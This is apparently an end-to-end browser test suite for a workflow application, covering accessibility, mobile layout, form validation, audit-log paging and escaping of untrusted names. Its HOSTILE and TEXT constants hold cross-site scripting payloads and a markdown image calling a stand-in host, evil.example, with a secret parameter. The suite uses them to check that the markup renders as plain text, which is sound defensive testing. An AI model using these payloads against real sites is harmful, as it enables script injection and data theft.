"""Pages of the account, projects and the administration: their looks, and names that are markup."""

import json
from collections.abc import AsyncIterator
from dataclasses import replace

import pytest
import pytest_asyncio
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import Browser, Page, expect
from sqlmodel import Session

from flowstudio.services.access import Target
from flowstudio.store import audit
from tests.e2e.conftest import admin_profile, watched
from tests.people import project_of
from tests.site import ADMIN, Site

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

PATHS = ["/account", "/projects", "/projects/{project}", "/admin", "/workflows"]
HOSTILE = '<img src=x onerror="window.hit=1"><script>window.hit=1</script>"\'><svg onload=hit=1>'
TEXT = (
    f"{HOSTILE}\n\n![x](https://evil.example/?k=secret) [a](javascript:window.hit=1) "
    "[b](data:text/html,<script>window.hit=1</script>) <a href='javascript:hit=1'>c</a>"
)


def path_of(site: Site, path: str) -> str:
    return path.replace("{project}", project_of(site.person(ADMIN)))


async def loaded(page: Page) -> None:
    await expect(page.locator("main h1").first).to_be_visible()
    await expect(page.locator(".bone")).to_have_count(0)


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("path", PATHS)
async def test_axe_finds_nothing_on_settings(
    browser: Browser, site: Site, path: str, theme: str
) -> None:
    async with admin_profile(browser, site, color_scheme=theme) as context:
        page = await context.new_page()
        await page.goto(path_of(site, path))
        await loaded(page)
        results = await Axe().run(page)
        assert results.violations_count == 0, results.generate_report()


@pytest.mark.parametrize("part", ["registration", "audit", "health"])
async def test_axe_finds_nothing_on_the_parts_of_the_administration(
    browser: Browser, site: Site, part: str
) -> None:
    async with admin_profile(browser, site) as context:
        page = await context.new_page()
        await page.goto("/admin")
        await loaded(page)
        await page.get_by_test_id(f"admin-{part}").click()
        await expect(page.get_by_test_id(f"admin-{part}")).to_have_attribute(
            "aria-selected", "true"
        )
        await expect(page.get_by_role("tabpanel").locator("> *").first).to_be_visible()
        results = await Axe().run(page)
        assert results.violations_count == 0, results.generate_report()


@pytest.mark.parametrize("path", PATHS)
async def test_settings_fit_a_telephone(browser: Browser, site: Site, path: str) -> None:
    async with admin_profile(browser, site, viewport={"width": 390, "height": 844}) as context:
        page = await context.new_page()
        await page.goto(path_of(site, path))
        await loaded(page)
        assert await page.evaluate("document.documentElement.scrollWidth") == 390


@pytest_asyncio.fixture(loop_scope="session")
async def hostile(browser: Browser, site: Site) -> AsyncIterator[tuple[Page, dict[str, str]]]:
    """A page of the admin, in whose project everything has a name that is markup."""
    async with admin_profile(browser, site) as context, watched(context, site) as page:

        async def made(path: str, body: object) -> dict[str, str]:
            reply = await context.request.post(
                f"/api/v1{path}",
                data=json.dumps(body),
                headers={"content-type": "application/json", "origin": site.url},
            )
            assert reply.ok, await reply.text()
            return dict(await reply.json())

        project = await made("/projects", {"name": HOSTILE[:90]})
        document = {
            "format": "flowstudio/1",
            "name": HOSTILE,
            "description": TEXT,
            "nodes": [
                {"id": "s", "type": "start", "name": "start"},
                {"id": "e", "type": "end", "name": "end", "config": {"outputs": {"text": TEXT}}},
            ],
            "edges": [{"id": "1", "source": "s", "target": "e"}],
        }
        body = {"project_id": project["id"], "document": document}
        workflow = await made("/workflows", body)
        await made("/keys", {"name": HOSTILE[:90], "scopes": ["runs:read"]})
        run = await made(f"/workflows/{workflow['id']}/runs", {"inputs": {}})
        await page.add_init_script(f"localStorage.setItem('project', '{project['id']}')")
        yield page, {"project": project["id"], "workflow": workflow["id"], "run": run["id"]}


async def test_a38_a43_names_and_outputs_that_are_markup_are_text(
    hostile: tuple[Page, dict[str, str]],
) -> None:
    page, ids = hostile
    for path in (
        "/", "/workflows", f"/workflows/{ids['workflow']}", "/projects",
        f"/projects/{ids['project']}", "/account", "/admin", "/runs", f"/runs/{ids['run']}",
    ):  # fmt: skip
        await page.goto(path)
        await expect(page.locator("main").first).to_be_visible()
        await expect(page.locator(".bone")).to_have_count(0)
        assert await page.evaluate("window.hit") is None, path
        assert await page.locator("main :is(img, script, [onerror], [onload])").count() == 0, path
        links = page.locator("main a:is([href^='javascript:'], [href^='data:'])")
        assert await links.count() == 0, path
    await expect(page.get_by_test_id("run-outputs")).to_contain_text("<svg onload=hit=1>")


async def test_pages_say_that_mail_stays_on_this_server(page: Page, site: Site) -> None:
    for path in ("/account", path_of(site, "/projects/{project}")):
        await page.goto(path)
        await loaded(page)
        await expect(page.get_by_text("This server sends no mail")).to_be_visible()


async def test_a_number_that_cannot_be_read_is_refused_at_its_field(page: Page) -> None:
    await page.goto("/admin")
    await page.get_by_test_id("admin-retention").click()
    form = page.get_by_test_id("retention-form")
    days = form.locator("[name=days]")
    await days.fill("30 days")
    await form.get_by_role("button", name="Save").click()
    await expect(form.get_by_text("This must be a whole number.")).to_be_visible()
    await expect(days).to_be_focused()
    await expect(form.get_by_text("Saved.")).to_have_count(0)


async def test_the_audit_log_is_read_back_to_its_beginning(page: Page, site: Site) -> None:
    actor, entries = replace(site.person(ADMIN), name="many@example.com"), 210

    def fill(session: Session) -> None:
        for number in range(entries):
            target = Target("workflow", f"many-{number}")
            audit.append(session, site.parts.entry(actor, "workflow.edit", target))

    site.parts.records.write_now(fill)
    await page.goto("/admin")
    await page.get_by_test_id("admin-audit").click()
    await page.get_by_label("Who").fill("many@example.com")
    await page.get_by_role("button", name="Show", exact=True).click()
    rows, older = page.get_by_test_id("log-row"), page.get_by_role("button", name="Show older")
    for shown in (50, 100, 150, 200):
        await expect(rows).to_have_count(shown)
        await older.click()
    await expect(rows).to_have_count(entries)
    await expect(rows.last).to_contain_text("many-0")
    await expect(older).to_have_count(0)
